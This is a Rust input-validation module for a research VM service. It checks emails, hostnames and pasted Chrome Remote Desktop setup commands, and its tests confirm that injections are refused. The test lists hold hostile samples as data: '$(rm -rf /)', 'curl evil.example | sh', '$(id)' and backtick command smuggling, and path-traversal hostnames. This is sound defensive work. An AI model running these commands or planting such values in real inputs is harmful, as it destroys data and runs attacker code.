//! Validation at the edge: researchers' emails and Chrome Remote Desktop commands, and
//! hostnames. Values are checked and normalised here, before any actor sees them.

use std::sync::LazyLock;

use regex::Regex;

/// The only redirect URL Chrome Remote Desktop's Debian command uses.
pub const CRD_REDIRECT_URL: &str = "https://remotedesktop.google.com/_/oauthredirect";
/// Where the CRD host program lives on the VM images.
pub const CRD_START_HOST: &str = "/opt/google/chrome-remote-desktop/start-host";
/// Longest email accepted (the limit of the address syntax).
const MAX_EMAIL_LEN: usize = 254;
/// Longest CRD command accepted; genuine ones are about 250 characters.
const MAX_CRD_COMMAND_LEN: usize = 2048;

/// The command Chrome Remote Desktop's "Set up via SSH → Debian Linux" page gives, and
/// nothing else: fixed program, an authorisation code of safe characters, the fixed redirect
/// URL, and the VM's name as `$(hostname)` or a plain word. Quotes are optional; any other
/// shell syntax fails to match.
static CRD_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"^(?:DISPLAY=\s+)?/opt/google/chrome-remote-desktop/start-host"#,
        r#"\s+--code=(?:"(?P<qcode>[0-9]/[A-Za-z0-9_\-]{10,1024})"|(?P<code>[0-9]/[A-Za-z0-9_\-]{10,1024}))"#,
        r#"\s+--redirect-url=(?:"https://remotedesktop\.google\.com/_/oauthredirect"|'https://remotedesktop\.google\.com/_/oauthredirect'|https://remotedesktop\.google\.com/_/oauthredirect)"#,
        r#"\s+--name=(?:\$\(hostname\)|"\$\(hostname\)"|[A-Za-z0-9._\-]{1,64})\s*$"#,
    ))
    .expect("the CRD pattern is a valid regex")
});

/// A practical email check: one `@`, a non-empty local part without spaces or quotes, and a
/// dotted domain of letters, digits and hyphens.
static EMAIL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"^[A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]+@[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?(?:\.[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?)+$",
    )
    .expect("the email pattern is a valid regex")
});

/// Hostnames: what cloud VM names and `lablink-vm-<env>-<n>` look like.
static HOSTNAME: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[A-Za-z0-9](?:[A-Za-z0-9._-]{0,251}[A-Za-z0-9])?$")
        .expect("the hostname pattern is a valid regex")
});

/// The email, trimmed and lower-cased (so the same person is recognised however they type it).
pub fn email(raw: &str) -> Result<String, String> {
    let email = raw.trim().to_lowercase();
    if email.is_empty() {
        return Err("Please enter your email address.".to_owned());
    }
    if email.len() > MAX_EMAIL_LEN || !EMAIL.is_match(&email) {
        return Err("That does not look like an email address; please check it.".to_owned());
    }
    Ok(email)
}

/// The researcher's CRD command, checked against [`CRD_COMMAND`] and rebuilt in one canonical
/// form from its code, so what reaches the VM is exactly what we validated.
pub fn crd_command(raw: &str) -> Result<String, String> {
    let command = raw.trim();
    if command.is_empty() {
        return Err("Please paste the Chrome Remote Desktop command.".to_owned());
    }
    let invalid = || {
        "That is not a Chrome Remote Desktop command. Copy the whole command shown for \
         \"Debian Linux\" (it starts with DISPLAY= and contains --code=)."
            .to_owned()
    };
    if command.len() > MAX_CRD_COMMAND_LEN {
        return Err(invalid());
    }
    let captures = CRD_COMMAND.captures(command).ok_or_else(invalid)?;
    let code = captures
        .name("qcode")
        .or_else(|| captures.name("code"))
        .ok_or_else(invalid)?
        .as_str();
    Ok(format!(
        "DISPLAY= {CRD_START_HOST} --code=\"{code}\" --redirect-url=\"{CRD_REDIRECT_URL}\" --name=$(hostname)"
    ))
}

/// A hostname as given, if it is one.
pub fn hostname(raw: &str) -> Result<&str, String> {
    if HOSTNAME.is_match(raw) {
        Ok(raw)
    } else {
        Err(format!(
            "`{}` is not a valid hostname (letters, digits, `.`, `_`, `-`; at most 253 characters)",
            raw.chars().take(64).collect::<String>()
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const GENUINE: &str = r#"DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="4/0AVG7fiQ1bCdEfGhIjKlMnOpQrStUvWxYz_0123-abc" --redirect-url="https://remotedesktop.google.com/_/oauthredirect" --name=$(hostname)"#;

    #[test]
    fn the_genuine_crd_command_is_accepted_and_made_canonical() {
        let canonical = crd_command(GENUINE).expect("genuine");
        assert_eq!(canonical, GENUINE);
        let unquoted = GENUINE.replace("\"4/", "4/").replace("-abc\"", "-abc");
        assert_eq!(crd_command(&unquoted).expect("unquoted code"), GENUINE);
        let padded = format!("  {GENUINE}\n");
        assert_eq!(crd_command(&padded).expect("whitespace"), GENUINE);
    }

    #[test]
    fn anything_else_is_refused() {
        for bad in [
            "",
            "hello",
            "--code=4/abc",
            &GENUINE.replace("$(hostname)", "$(rm -rf /)"),
            &format!("{GENUINE}; curl evil.example | sh"),
            &format!("{GENUINE} && reboot"),
            &GENUINE.replace("start-host", "start-host`id`"),
            &GENUINE.replace("4/0AVG", "4/0AVG;id;"),
            &GENUINE.replace("remotedesktop.google.com", "evil.example"),
            &GENUINE.replace("--code=\"4/", "--code=\"4/$(id)"),
            &format!("{GENUINE}\nreboot"),
        ] {
            assert!(crd_command(bad).is_err(), "accepted: {bad}");
        }
    }

    #[test]
    fn emails_are_checked_and_normalised() {
        assert_eq!(
            email("  Ada.Lovelace@Example.ORG "),
            Ok("ada.lovelace@example.org".into())
        );
        assert_eq!(
            email("first+lab@uni.ac.uk"),
            Ok("first+lab@uni.ac.uk".into())
        );
        for bad in [
            "",
            "ada",
            "ada@",
            "@example.org",
            "ada@example",
            "a b@example.org",
            "ada@@example.org",
            "<script>@x.org",
        ] {
            assert!(email(bad).is_err(), "accepted: {bad}");
        }
        assert!(email(&format!("{}@example.org", "a".repeat(250))).is_err());
    }

    #[test]
    fn hostnames_are_checked() {
        assert!(hostname("lablink-vm-prod-1").is_ok());
        assert!(hostname("ip-10-0-0-1.ec2.internal").is_ok());
        for bad in [
            "",
            "-vm",
            "vm/1",
            "vm 1",
            "vm;rm",
            "../etc",
            &"a".repeat(300),
        ] {
            assert!(hostname(bad).is_err(), "accepted: {bad}");
        }
    }
}
